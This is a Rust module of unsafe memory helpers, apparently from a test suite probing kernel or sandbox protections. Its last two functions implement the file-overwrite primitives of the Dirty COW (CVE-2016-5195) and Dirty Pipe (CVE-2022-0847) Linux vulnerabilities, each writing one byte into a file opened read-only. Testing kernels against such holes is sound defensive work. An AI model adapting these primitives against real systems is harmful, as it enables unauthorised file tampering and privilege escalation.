//! Memory that is taken, or written to, in ways for which std and nix have no safe wrapper.

use std::{
    fs::{File, OpenOptions},
    os::{fd::AsRawFd as _, unix::fs::FileExt as _},
    sync::atomic::{AtomicBool, Ordering},
};

use nix::errno::Errno;

const PAGE: usize = 4096;
/// What one page table describes.
const TABLE: usize = 2 << 20;

/// Maps, and never unmaps: the worker or the process ends with it.
fn map(length: usize, protection: i32, flags: i32, file: i32) -> nix::Result<usize> {
    // WHY UNSAFE: mapping is.
    // SAFETY: the kernel chooses the address; nothing that is there already is touched.
    let at = unsafe { libc::mmap(std::ptr::null_mut(), length, protection, flags, file, 0) };
    if at == libc::MAP_FAILED { Err(Errno::last()) } else { Ok(at as usize) }
}

const PRIVATE: i32 = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS;

/// Locks so many new bytes.
pub fn lock(bytes: usize) -> nix::Result<()> {
    let at = map(bytes, libc::PROT_READ | libc::PROT_WRITE, PRIVATE, -1)?;
    // WHY UNSAFE: nix wants a pointer as well.
    // SAFETY: the range was mapped above.
    Errno::result(unsafe { libc::mlock(at as *const libc::c_void, bytes) }).map(drop)
}

/// Maps so many bytes, with all their pages.
pub fn populate(bytes: usize) -> nix::Result<()> {
    map(bytes, libc::PROT_READ | libc::PROT_WRITE, PRIVATE | libc::MAP_POPULATE, -1).map(drop)
}

/// New memory of so many bytes, of our own or as children would share it.
pub fn take(bytes: usize, shared: bool) -> nix::Result<&'static mut [u8]> {
    let kind = if shared { libc::MAP_SHARED | libc::MAP_ANONYMOUS } else { PRIVATE };
    let at = map(bytes, libc::PROT_READ | libc::PROT_WRITE, kind, -1)?;
    // WHY UNSAFE: a vector's memory is not necessarily the kernel's newest.
    // SAFETY: the range was mapped above and is never unmapped; nobody else has its address.
    Ok(unsafe { std::slice::from_raw_parts_mut(at as *mut u8, bytes) })
}

/// Reads a byte of every 2 MiB of so many new ones. Returns how many that were.
pub fn read_sparsely(bytes: usize) -> nix::Result<usize> {
    let at = map(bytes, libc::PROT_READ, PRIVATE | libc::MAP_NORESERVE, -1)?;
    // WHY UNSAFE: pages of another size would need no tables; and reading through an address is.
    // SAFETY: the range was mapped above, for reading.
    unsafe {
        Errno::result(libc::madvise(at as *mut libc::c_void, bytes, libc::MADV_NOHUGEPAGE)).ok();
        for place in (at..at + bytes).step_by(TABLE) {
            std::ptr::read_volatile(place as *const u8);
        }
    }
    Ok(bytes / TABLE)
}

fn write_at(at: usize) {
    // WHY UNSAFE: writing through an address is.
    // SAFETY: the callers have mapped a page there for writing.
    unsafe { std::ptr::write_volatile(at as *mut u8, b'X') };
}

/// Writes the first byte of a file by way of memory that is shared with it.
pub fn write_by_mapping(file: &File) -> nix::Result<()> {
    write_at(map(PAGE, libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED, file.as_raw_fd())?);
    Ok(())
}

/// The same, of memory that was for reading at first.
pub fn write_after_mprotect(file: &File) -> nix::Result<()> {
    let at = map(PAGE, libc::PROT_READ, libc::MAP_SHARED, file.as_raw_fd())?;
    // WHY UNSAFE: nix has no wrapper for an address that is a number.
    // SAFETY: the page was mapped above, and nothing refers to it.
    Errno::result(unsafe { libc::mprotect(at as *mut libc::c_void, PAGE, libc::PROT_READ | libc::PROT_WRITE) })?;
    write_at(at);
    Ok(())
}

/// CVE-2016-5195: one thread throws the private copy of a page away while another writes to it by way of /proc/self/mem. On a
/// kernel with that hole the file itself is written to.
pub fn race(file: &File, rounds: u32) -> std::io::Result<()> {
    let at = map(PAGE, libc::PROT_READ, libc::MAP_PRIVATE, file.as_raw_fd())?;
    let memory = OpenOptions::new().write(true).open("/proc/self/mem")?;
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                // WHY UNSAFE: nix wants a pointer that lives.
                // SAFETY: the page was mapped above, and is read by nobody.
                unsafe { libc::madvise(at as *mut libc::c_void, PAGE, libc::MADV_DONTNEED) };
            }
        });
        let written = (0..rounds).try_for_each(|_| memory.write_all_at(b"X", at as u64));
        over.store(true, Ordering::Relaxed);
        written
    })
}

/// CVE-2022-0847: a page of a file is put into a pipe, and written on behind. On a kernel with that hole the file's page is
/// written to.
pub fn splice(file: &File) -> nix::Result<()> {
    let (reader, writer) = nix::unistd::pipe()?;
    // Used once, so that the marks of its slots are set.
    nix::unistd::write(&writer, &[0; PAGE])?;
    nix::unistd::read(&reader, &mut [0; PAGE])?;
    let mut offset = 0_i64;
    // WHY UNSAFE: nix has it behind a feature that nothing else here needs.
    // SAFETY: `offset` outlives the call, and the descriptors are our own.
    Errno::result(unsafe {
        let none = std::ptr::null_mut();
        libc::splice(file.as_raw_fd(), &raw mut offset, writer.as_raw_fd(), none, 1, 0)
    })?;
    nix::unistd::write(&writer, b"X").map(drop)
}
